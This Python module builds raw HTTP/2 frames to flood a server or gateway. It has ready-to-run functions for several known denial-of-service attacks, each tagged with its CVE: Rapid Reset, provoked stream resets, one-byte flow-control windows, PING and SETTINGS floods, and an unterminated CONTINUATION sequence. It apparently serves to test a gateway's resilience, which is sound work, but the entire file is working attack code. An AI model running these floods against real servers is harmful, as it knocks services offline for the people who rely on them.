"""What floods a gate over HTTP/2 (RFC 9113 §4.1), by hand: no client sends what these do."""

import ssl
import struct

from flooders import more

HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
INITIAL_WINDOW = 4
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field that is not indexed (RFC 7541 §6.2.2), each part shorter than 127 bytes."""
    return b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in (name, value))


def over_http2(each, path="/public/x", wants=b""):
    """`each` gets a connection, the number of a stream that is new, and the lines of a request for `path`; `wants`: the
    client's settings."""

    def flood(gate, kept):
        if "wire" not in kept:
            kept["wire"] = gate.connect("h2")
            kept["wire"].sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, wants))
            kept["stream"] = -1
        lines = {":method": "GET", ":scheme": "https", ":authority": gate.host, ":path": path}
        kept["stream"] += 2
        kept["wire"].settimeout(2)
        done = each(kept["wire"], kept["stream"], b"".join(literal(*line) for line in lines.items()))
        kept["wire"].settimeout(0)
        try:
            # What comes is read, so that nobody waits for us; an end is one.
            while more(kept["wire"]):
                pass
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        return done

    return flood


def resets(wire, stream, lines):
    """CVE-2023-44487: each request is taken back at once."""
    wire.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, lines) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def resets_provoked(wire, stream, lines):
    """CVE-2025-8671: the gate is made to reset each, by more room for its answer than there can be (RFC 9113 §6.9.1)."""
    wire.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, lines) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))


def one_byte_windows(wire, stream, lines):
    """CVE-2019-9511: a hundred downloads of 8 MB, and room for one byte more of one of them."""
    if stream < 200:
        wire.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, lines))
    else:
        wire.sendall(frame(WINDOW_UPDATE, 0, stream % 200, b"\0\0\0\1") + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


def pings(wire, _, __):
    """CVE-2019-9512."""
    wire.sendall(frame(PING, 0, 0, b"8 bytes.") * 10)
    return 10


def settings(wire, _, __):
    """CVE-2019-9515."""
    wire.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * 10)
    return 10


def continuations(wire, stream, lines):
    """CVE-2024-27316: a head without an end."""
    wire.sendall(frame(HEADERS, END_STREAM, 1, lines) if stream == 1 else frame(CONTINUATION, 0, 1, literal("x", "y" * 100)))


ONE_BYTE = over_http2(one_byte_windows, "/public/large", struct.pack(">HI", INITIAL_WINDOW, 1))
